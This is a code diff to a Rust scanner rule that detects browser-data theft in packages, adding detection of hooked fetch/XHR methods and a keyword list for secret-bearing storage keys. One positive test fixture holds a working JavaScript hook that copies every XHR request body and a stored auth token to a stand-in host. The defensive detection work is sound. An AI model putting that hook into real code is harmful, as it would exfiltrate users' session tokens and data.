@@ -14,7 +14,9 @@ diligence_finding::declare_rule! {
     /// A value-flow path from browser data to a send (`fetch`, XHR, WebSocket, `navigator.sendBeacon`, jQuery ajax,
     /// an `img`/`script`/`iframe` element's `src`, `location`): password and payment-card fields, key strokes,
     /// form inputs (`querySelectorAll('input')`, `FormData`, `submit`/`change` events), the cookie jar, web
-    /// storage, the clipboard, wallet-provider answers — through variables, encoders, callbacks, helpers and
+    /// storage (the whole store, or a named entry that holds a token or secret), the clipboard, wallet-provider
+    /// answers, the requests a replaced `fetch`/XHR method receives — through variables, encoders, callbacks,
+    /// helpers and
     /// modules. Form inputs read in a file that singles out password or payment fields (`el.type === 'password'`,
     /// a `/card|cvv|cvc/` name pattern) count as password/card fields. With a hard-coded destination: critical
     /// for password/card fields or key strokes, for two kinds
@@ -36,7 +38,8 @@ diligence_finding::declare_rule! {
     /// Bundles (devtools, dev servers) hold storage reads and unrelated sends in different functions of one
     /// file: the read and the send must share a function for high or critical. Form serialisers and API
     /// clients send to the URL their caller passes (`form.action`, a base URL option): a path to a
-    /// destination that is not constant is medium for password fields and not reported otherwise. Analytics
+    /// destination that is not constant is medium for password fields and not reported otherwise. Monitoring
+    /// SDKs that wrap `fetch` and report requests to their own host are medium (one kind of data). Analytics
     /// read their own cookie (`document.cookie.split(';')…`) or a named storage entry (also one a storage
     /// wrapper's caller names, `getItem(prefix + key)`): low. Payment SDKs that post card fields to their own
     /// constant host would be critical; they are loaded from the processor's CDN rather than bundled from npm.
@@ -120,6 +123,7 @@ const SOURCES: &[SourceKind] = &[
     SourceKind::Storage,
     SourceKind::Clipboard,
     SourceKind::Wallet,
+    SourceKind::Intercepted,
 ];
 
 /// How much a path's browser data says: 3 for what the user types or copies (passwords, card
@@ -134,8 +138,37 @@ fn weight(path: &FlowPath) -> u8 {
         SourceKind::Storage if !path.from.what.contains("getItem(") => 2,
         SourceKind::Clipboard => 3,
         SourceKind::FormInput => 1,
+        // Requests read by a hook: monitoring SDKs record them too, for their own host.
+        SourceKind::Intercepted => 1,
+        // One named entry that holds a secret (`getItem('auth_token')`).
+        SourceKind::Storage if secret_entry(&path.from.what) => 1,
         _ => 0,
     }
+}
+
+/// True for a named storage entry whose key names a secret (`getItem('jwt')`,
+/// `getItem('wallet_mnemonic')`), not an analytics id.
+fn secret_entry(what: &str) -> bool {
+    let Some(key) = what.split("getItem('").nth(1) else {
+        return false;
+    };
+    let k = key.to_ascii_lowercase();
+    [
+        "token",
+        "jwt",
+        "auth",
+        "session",
+        "secret",
+        "password",
+        "mnemonic",
+        "seed",
+        "private",
+        "wallet",
+        "keystore",
+        "credential",
+    ]
+    .iter()
+    .any(|w| k.contains(w))
 }
 
 /// One finding per path from browser data to a send.
@@ -338,6 +371,39 @@ mod tests {
         ]);
         assert!(hits(&s, "code/browser-data-theft").is_empty());
         assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// A replaced `XMLHttpRequest.prototype.send` that copies every request body and a stored
+    /// session token to a constant host: two kinds of data, critical.
+    #[test]
+    fn positive_xhr_hook_copies_bodies_and_the_token() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "h.js",
+                "var send = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (body) {\n  var t = localStorage.getItem('auth_token');\n  navigator.sendBeacon('https://cdn.example.net/b', JSON.stringify({ b: body, t: t }));\n  return send.apply(this, arguments);\n};\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
+        assert_eq!(
+            (f.line, f.severity),
+            (4, diligence_finding::Severity::Critical)
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A fetch wrapper that adds a header and calls the original: the requests go where the
+    /// page sent them, nothing is copied to a constant host.
+    #[test]
+    fn negative_fetch_wrapper_adds_a_header() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "w.js",
+                "const orig = window.fetch;\nwindow.fetch = function (url, opts = {}) {\n  opts.headers = Object.assign({ 'x-client': 'kit' }, opts.headers);\n  return orig(url, opts);\n};\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/browser-data-theft").is_empty());
     }
 
     /// A form library posts the form to its `action`: no hard-coded destination.
